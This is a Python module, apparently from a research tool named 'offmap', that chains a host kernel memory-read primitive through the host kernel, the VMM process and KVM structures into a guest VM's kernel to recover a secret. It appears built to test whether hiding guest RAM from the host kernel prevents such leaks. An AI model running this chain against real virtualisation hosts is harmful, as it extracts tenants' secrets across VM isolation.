"""The chain: from nothing to a secret in a guest's process, step by step, until it has it or a step is not mapped.

"Ends" is said only of a guest page whose place in the host is known and to which no mapping of the kernel's leads: the
whole kernel half of the page tables was walked, through the primitive. Whatever else goes wrong loses the trail, and
that is "unknown".
"""

import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress

from offmap.attack.guest import Guest
from offmap.attack.host import Host
from offmap.attack.knowledge import Kernel
from offmap.attack.linux import Lost, Process
from offmap.attack.page_cache import pages_of
from offmap.attack.primitive import Counts, NotMapped, Primitive, Unreadable
from offmap.attack.residue import residues_of
from offmap.attack.result import Attempt, Outcome, Residue, Stage, Sweep
from offmap.attack.sweep import SHORTEST_RUN, Pieces, Planner, plan_sweep, sweep
from offmap.attack.target import Target
from offmap.attack.vm import GuestMemory, Hidden, NotThere, Reached, find_vm, nested_place, read_slots
from offmap.audit.btf import Unknown
from offmap.audit.mappings import KernelMappings
from offmap.uapi.page import PAGE_SHIFT, PAGE_SIZE

_FALLBACK = "other mappings of the guest's pages"
_SWEEP = "all that the host kernel maps"


class _Ended(Exception):
    """The chain is over."""

    def __init__(self, outcome: Outcome, stage: str, reason: str) -> None:
        self.outcome, self.stage, self.reason = outcome, stage, reason
        super().__init__(reason)


class _Report:
    """What a stage says that it found."""

    def __init__(self) -> None:
        self.found = ""


class Chain:
    """One attack on one VM.

    Args:
        primitive: what reads the host.
        host_kernel, guest_kernel: what is known of them.
        pid: of the VMM.
        target: what it is after.
        base: where the host's kernel image is, if that is known; else it is searched for.
        control: the guest's RAM is plain. After the secret, what says that a chain ends is tried on it: it must find
            every page mapped here.
        pieces: the secret, to sweep all that is mapped for it; None: no sweep.
        planner: says what a sweep reads.
    """

    def __init__(
        self,
        primitive: Primitive,
        host_kernel: Kernel,
        guest_kernel: Kernel,
        pid: int,
        target: Target,
        base: int | None = None,
        control: bool = False,
        pieces: Pieces | None = None,
        planner: Planner = plan_sweep,
    ) -> None:
        self._primitive, self._pid, self._target, self._base = primitive, pid, target, base
        self._host, self._guest_kernel, self._control = Host(primitive, host_kernel), guest_kernel, control
        self._stages: list[Stage] = []
        self._doubtful = 0
        self._count: tuple[int | None, int | None, int | None] = None, None, None
        self._vmm: Process | None = None
        self._kvm = self._image = 0
        self._memory: GuestMemory | None = None
        self._pieces, self._planner = pieces, planner
        self._mappings: KernelMappings | None = None

    def run(self) -> Attempt:
        """Go as far as it goes."""
        before, began = self._primitive.counts.copy(), time.monotonic()
        ended: _Ended
        try:
            self._to_the_guest()
            ended = self._through_the_guest()
        except _Ended as error:
            ended = error
        used, seconds = self._primitive.counts.since(before), time.monotonic() - began
        if self._control and ended.outcome is Outcome.RECOVERED:
            try:
                self._try_what_ends()
            except _Ended as error:
                ended = error
        swept = None
        if self._pieces is not None and self._host.direct_map:
            try:
                swept = self._sweep(self._pieces)
                ended = _with_sweep(ended, swept)
            except _Ended as error:
                ended = error if ended.outcome is Outcome.ENDS else ended
        guest, mapped, missing = self._count
        return Attempt(
            pid=self._pid,
            target=self._target.name,
            outcome=ended.outcome,
            stage=ended.stage,
            reason=ended.reason,
            stages=tuple(self._stages),
            reads=used.reads,
            bytes=used.bytes,
            failures=used.failures,
            seconds=round(seconds, 3),
            guest_pages=guest,
            mapped_pages=mapped,
            missing_pages=missing,
            user_pages=len(self._memory.by_user) if self._memory else 0,
            sweep=swept,
            residues=self._residues(),
        )

    @contextmanager
    def _stage(self, name: str) -> Iterator[_Report]:
        """A step: what it reads is counted, and what goes wrong in it ends the chain; but ``Hidden`` is handed on."""
        before, began, report = self._primitive.counts.copy(), time.monotonic(), _Report()
        try:
            yield report
        except BaseException as error:
            self._note(name, False, str(error), before, began)
            if isinstance(error, Reached):
                raise _Ended(Outcome.REACHED, name, str(error)) from None
            if isinstance(error, Unreadable):
                raise _Ended(Outcome.UNKNOWN, name, str(error)) from None
            if isinstance(error, NotMapped):
                reason = f"{error}, and it should be: the trail is lost"
                raise _Ended(Outcome.UNKNOWN, name, reason) from None
            if isinstance(error, (Lost, Unknown, NotThere)):
                raise _Ended(Outcome.UNKNOWN, name, str(error)) from None
            raise
        self._note(name, True, report.found, before, began)

    def _note(self, name: str, passed: bool, found: str, before: Counts, began: float) -> None:
        used = self._primitive.counts.since(before)
        self._stages.append(
            Stage(
                name=name,
                passed=passed,
                found=found,
                reads=used.reads,
                bytes=used.bytes,
                failures=used.failures,
                seconds=round(time.monotonic() - began, 3),
            )
        )

    def _to_the_guest(self) -> None:
        host = self._host
        with self._stage("host: kernel") as stage:
            base = host.find_image(self._base)
            stage.found = f"at {base:#x}, {'searched for' if self._base is None else 'given'}"
        with self._stage("host: direct map") as stage:
            host.find_direct_map()
            stage.found = f"from {host.direct_map:#x}, {host.levels} levels of page tables"
        with self._stage("host: process of the VMM") as stage:
            self._vmm = host.process(self._pid)
            if not self._vmm.memory:
                raise Lost(f"process {self._pid} has no address space")
            stage.found = f"{self._vmm.name} ({self._pid})"
        with self._stage("host: VM") as stage:
            self._kvm = find_vm(host, self._vmm)
            stage.found = f"struct kvm at {self._kvm:#x}"
        with self._stage("host: memory slots") as stage:
            slots = read_slots(host, self._kvm)
            stage.found = f"{len(slots)} slots, {sum(slot.bytes for slot in slots) >> 20} MiB"
        with self._stage("host: page tables of the VMM") as stage:
            self._memory = GuestMemory(host, self._vmm, slots)
            stage.found = f"at host page {self._memory.table:#x}"

    def _through_the_guest(self) -> _Ended:
        memory = self._memory
        assert memory is not None
        try:
            return self._follow()
        except Hidden as error:
            hidden, at = error, self._stages[-1].name
        self._check_place(hidden.gpa, hidden.pa)
        mapped = self._find_aliases(memory)
        if mapped:
            # Whatever mapping there is, the same chain may get through by it.
            with suppress(Hidden):
                return self._follow()
            if found := self._search_mapped(memory):
                return _Ended(Outcome.RECOVERED, self._stages[-1].name, found)
        if found := self._search_page_cache():
            return _Ended(Outcome.RECOVERED, self._stages[-1].name, found)
        if self._doubtful:
            reason = f"{self._doubtful} pages of guest RAM are not in the VMM's page tables: who maps them is unknown"
            return _Ended(Outcome.UNKNOWN, _FALLBACK, reason)
        if mapped:
            what = f"the {mapped} guest pages that are mapped do not have the secret"
        else:
            what = "the host kernel maps none of the guest's pages"
        return _Ended(Outcome.ENDS, at, f"{hidden}; {what}")

    def _follow(self) -> _Ended:
        """The chain within the guest.

        Raises:
            Hidden: a page that it needs is not mapped.
        """
        assert self._memory is not None
        guest = Guest(self._memory, self._guest_kernel)
        with self._stage("guest: kernel") as stage:
            self._image = guest.find_image()
            stage.found = f"at guest page {self._image:#x}, moved by {guest.slide:#x}"
        with self._stage("guest: direct map") as stage:
            guest.find_direct_map()
            stage.found = f"from {guest.direct_map:#x}"
        with self._stage("guest: processes") as stage:
            stage.found = f"{sum(1 for _ in guest.processes())} processes"
        with self._stage("guest: secret") as stage:
            found = self._target.find(guest)
            if found is None:
                raise Lost("the secret is not where it should be")
            stage.found = found.where
        how = f"{found.bytes} bytes of {self._target.name}: {found.where}"
        if self._memory.by_user:
            pages = len(self._memory.by_user)
            how += f"; {pages} pages by the VMM's own mapping, which hiding RAM from the kernel does not take away"
        return _Ended(Outcome.RECOVERED, "guest: secret", how)

    def _try_what_ends(self) -> None:
        """On plain RAM, every page must be found mapped, and what is missing must be called doubtful."""
        memory = self._memory
        assert memory is not None
        self._check_place(self._image, memory.place(self._image))
        mapped = self._find_aliases(memory)
        pages, _, missing = self._count
        if mapped != pages or self._doubtful != missing:
            reason = f"of the control's {pages} pages only {mapped} are found mapped, and its RAM is plain"
            raise _Ended(Outcome.UNKNOWN, _FALLBACK, reason)

    def _check_place(self, gpa: int, pa: int) -> None:
        """The page must be the guest's for sure: KVM's own page tables must lead to the same one."""
        with self._stage("host: nested page tables") as stage:
            place = nested_place(self._host, self._kvm, gpa)
            if place is None:
                stage.found = "they do not have the page now"
            elif place >> PAGE_SHIFT != pa >> PAGE_SHIFT:
                raise Lost(f"they lead to host page {place:#x}, and the VMM's to {pa:#x}")
            else:
                stage.found = "they lead to the same host page"

    def _find_aliases(self, memory: GuestMemory) -> int:
        """How many of the guest's pages any kernel mapping has; they are read by these mappings from now on."""
        with self._stage(_FALLBACK) as stage:
            guest, frames = memory.frames()
            missing, self._doubtful = memory.missing(guest)
            mappings = self._host.mappings()
            if mappings.unreadable:
                raise Lost(f"page tables of the host cannot be read: {mappings.unreadable[0].reason}")
            mapped = memory.use_aliases(mappings, guest, frames)
            self._count, self._mappings = (len(frames), mapped, missing), mappings
            tables = sum(mappings.tables.values())
            stage.found = f"{mapped} of {len(frames)} pages, by {tables} page tables of the host"
        return mapped

    def _search_mapped(self, memory: GuestMemory) -> str:
        """Where the secret stands in those pages of the guest's that are mapped; empty if it does not."""
        with self._stage("guest: pages that are mapped") as stage:
            for gpa, data in memory.mapped():
                at = self._target.within(data)
                if at >= 0:
                    stage.found = f"the secret, at guest address {gpa + at:#x}"
                    return stage.found
            stage.found = "the secret is in none of them"
        return ""

    def _search_page_cache(self) -> str:
        """Where the secret stands in the host's page cache of the VMM's files (a drive); empty if it does not."""
        assert self._vmm is not None
        with self._stage("host: page cache of the VMM's files") as stage:
            looked = 0
            for name, mapping, _ in self._host.cached_files(self._vmm):
                for number, pa in pages_of(self._host, mapping):
                    try:
                        at = self._target.within(self._host.physical(pa, PAGE_SIZE))
                    except NotMapped:
                        continue  # guest RAM that is hidden
                    looked += 1
                    if at >= 0:
                        stage.found = f"the secret, in {name} at {number * PAGE_SIZE + at:#x}"
                        return stage.found
            stage.found = f"the secret is in none of their {looked} pages"
        return ""

    def _sweep(self, pieces: Pieces) -> Sweep:
        """Search all memory that is mapped for 16 bytes of the secret."""
        with self._stage(_SWEEP) as stage:
            mappings = self._mappings or self._host.mappings()
            if mappings.unreadable:
                raise Lost(f"page tables of the host cannot be read: {mappings.unreadable[0].reason}")
            found = sweep(self._primitive, self._planner(mappings, self._primitive), pieces)
            stage.found = f"{found.bytes_read >> 20} MiB searched: {_said(found)}"
        return found

    def _residues(self) -> tuple[Residue, ...]:
        if not self._kvm or self._vmm is None:
            return ()
        found = []
        with suppress(Lost, Unknown, NotMapped, Unreadable):
            for each in residues_of(self._host, self._vmm, self._kvm, self._memory, self._mappings):
                found.append(each)
        return tuple(found)


def _said(found: Sweep) -> str:
    """What a sweep found, in words."""
    words = f"{len(found.runs)} runs of the secret, the longest of {found.longest} bytes" if found.runs else ""
    words = words or f"no {SHORTEST_RUN} bytes of the secret stand in it"
    return f"{words}; {found.pages_unread} pages cannot be read" if found.pages_unread else words


def _with_sweep(ended: _Ended, found: Sweep) -> _Ended:
    """An end is one no more if a part of the secret is mapped, or what is mapped could not be read."""
    if ended.outcome is not Outcome.ENDS:
        return ended
    if found.runs:
        where = found.runs[0]
        what = f"{found.longest} of {found.secret_bytes} bytes of the secret stand at {where.va:#x} ({where.region})"
        return _Ended(Outcome.RECOVERED, _SWEEP, what)
    if found.pages_unread:
        return _Ended(Outcome.REACHED, _SWEEP, f"{found.pages_unread} mapped pages cannot be read by this primitive")
    return _Ended(Outcome.ENDS, ended.stage, f"{ended.reason}; in all that it maps, {_said(found)}")
